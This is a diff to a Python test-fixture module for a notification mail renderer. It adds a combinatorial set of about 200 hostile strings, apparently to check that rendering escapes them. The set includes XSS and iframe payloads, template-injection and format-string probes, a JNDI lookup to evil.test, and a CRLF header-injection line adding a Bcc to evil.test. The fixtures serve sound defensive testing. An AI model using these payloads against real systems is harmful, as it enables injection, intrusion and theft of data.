@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from datetime import UTC, date, datetime
+from itertools import product
 from typing import Any, Final
 
 from notifications.rendering import MailContext
@@ -37,6 +38,28 @@ HOSTILE: Final = (
     "a" * 160,
 )
 """Harmless as text, dangerous as markup or template."""
+
+HOSTILE_TEXTS: Final = (
+    *HOSTILE,
+    *(
+        f"{start}{middle}{end}"[:160]
+        for start, middle, end in product(
+            ("", "Yılmaz ", "</p>", '"', "\\", "--><"),
+            (
+                "<svg/onload=alert(1)>",
+                "<iframe src=//evil.test>",
+                "{{ config }}",
+                "{% raw %}",
+                "%s%n%x",
+                "\u0130\u015f\u011e\u0110",
+                "%(addressee)s",
+                "${jndi:ldap://evil.test}",
+            ),
+            ("", ">", "' x='", " <!--"),
+        )
+    ),
+)
+"""Some 200 of them: every opening with every payload and every ending."""
 
 HOSTILE_LINES: Final = (
     "Neuss\r\nBcc: x@evil.test",
